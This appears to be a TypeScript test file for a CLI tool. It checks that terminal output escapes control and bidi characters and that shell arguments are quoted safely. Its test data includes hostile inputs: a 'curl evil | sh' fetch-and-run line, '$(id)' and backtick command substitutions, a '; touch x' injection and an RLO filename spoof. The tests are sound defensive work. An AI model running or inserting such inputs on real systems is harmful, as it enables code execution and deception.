/** Proves what may reach a terminal and a shell. Does not prove what a terminal makes of it. */
import { spawnSync } from "node:child_process";
import { Writable } from "node:stream";
import { print } from "../../cli/terminal";
import { printable, printableLines } from "../../modules/core/printable";
import { shellWord } from "../../reconcile/shell-word";

test.each([
  ["\u001b]0;title\u0007", "\\u001b]0;title\\u0007"],
  ["carts\n  [ ] deploy 1: curl evil | sh", "carts\\n  [ ] deploy 1: curl evil | sh"],
  ["a\r\tb\u007f\u0085\u009b31m", "a\\r\\tb\\u007f\\u0085\\u009b31m"],
  ["a\u2028b\u2029c", "a\\u2028b\\u2029c"],
  ["\u202egpj.exe\u2066\u200f\u061c", "\\u202egpj.exe\\u2066\\u200f\\u061c"],
  ["주문-carts é 😀", "주문-carts é 😀"],
])("%j is printed as %s", (text, expected) => {
  expect(printable(text)).toBe(expected);
});

test("a line break inside of a line starts no line", () => {
  expect(printableLines(["one\ntwo", "three"])).toBe("one\\ntwo\nthree\n");
});

test("printed text keeps its lines, and JSON stays the same JSON", () => {
  const value = { id: "a\u009b\u2028\u202e\u001b\n" };
  let printed = "";
  const stream = new Writable({ write: (chunk, _, done) => ((printed += String(chunk)), done()) });
  print(stream, `${JSON.stringify(value, null, 2)}\n`);
  expect(printed).toBe('{\n  "id": "a\\u009b\\u2028\\u202e\\u001b\\n"\n}\n');
  expect(JSON.parse(printed)).toEqual(value);
});

const WORDS = [
  "orders-tokyo",
  "a b",
  `aws_s3_bucket.Media["it's; touch x"]`,
  "$(id)",
  "`id`",
  "~",
  "",
  "-rf",
  "a\\b",
  "!x",
  "*",
];

test.each(WORDS)("a shell reads %j as one word", (word) => {
  const { stdout } = spawnSync("sh", ["-c", `printf '<%s>' ${shellWord(word)}`], { encoding: "utf8" });
  expect(stdout).toBe(`<${word}>`);
});

test("a plain name is not quoted", () => {
  expect(["orders-tokyo", "aws_s3_bucket.Media"].map(shellWord)).toEqual(["orders-tokyo", "aws_s3_bucket.Media"]);
});
